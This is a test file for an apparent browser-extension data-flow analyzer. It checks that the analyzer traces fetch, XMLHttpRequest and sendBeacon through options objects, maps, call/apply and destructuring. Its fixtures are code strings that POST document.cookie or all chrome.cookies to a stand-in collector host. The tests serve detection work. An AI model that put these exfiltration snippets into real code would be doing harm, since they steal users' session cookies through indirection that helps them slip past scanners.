import { describe, expect, test } from 'vitest';
import { flowsOf } from '../extension/flowsOf.ts';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';

const HOST = 'https://collect.example/';

async function sent(parts: Parameters<typeof sample>[0]): Promise<number> {
  const { flows } = (await factsOf(sample(parts))).whole(flowsOf);
  return flows.filter(({ sink }) => sink.kind === 'network').length;
}

const CLIENT = `send(body) { return this.options.fetch('${HOST}', { method: 'POST', body }); }`;

describe('functions of the platform that objects hold', () => {
  test.each([
    [
      'options beside defaults',
      `constructor(o) { this.options = { ...o, fetch: o.fetch ?? window.fetch }; } ${CLIENT}`,
    ],
    [
      'options laid over defaults',
      `constructor(o) { this.options = Object.assign({ fetch: fetch.bind(window) }, o); } ${CLIENT}`,
    ],
    [
      'a class among options',
      `constructor() { this.o = { ...{ Request: XMLHttpRequest } }; } send(b) { const r = new this.o.Request(); r.open('POST', '${HOST}'); r.send(b); }`,
    ],
    [
      'a map',
      `constructor() { this.ways = new Map([['beacon', navigator.sendBeacon.bind(navigator)]]); } send(b) { this.ways.get('beacon')('${HOST}', b); }`,
    ],
    [
      'a field that is called on something',
      `constructor(f = fetch) { this.f = f; } send(b) { return this.f.call(window, '${HOST}', { method: 'POST', body: b }); }`,
    ],
    [
      'a parameter that is applied',
      `run(f, of, list) { f.apply(of, list); } send(b) { this.run(navigator.sendBeacon, navigator, ['${HOST}', b]); }`,
    ],
  ])('%s', async (_, client) => {
    expect(await sent({ content: `class Api { ${client} } new Api({}).send(document.cookie);` })).toBeGreaterThan(0);
    expect(
      await sent({ content: `class Api { ${client} } new Api({}).send('one'); console.log(document.cookie);` }),
    ).toBe(0);
  });

  test('a part of the interface that another function lays out', async () => {
    const background = (parts: string): string =>
      `const make = (o) => ({ retry: 3, ...o }); const { jar, up } = make(${parts}); jar.getAll({}, (all) => up('${HOST}', { method: 'POST', body: JSON.stringify(all) }));`;
    expect(await sent({ background: background('{ jar: chrome.cookies, up: fetch }') })).toBeGreaterThan(0);
    expect(await sent({ background: background('{ jar: chrome.alarms, up: fetch }') })).toBe(0);
  });
});
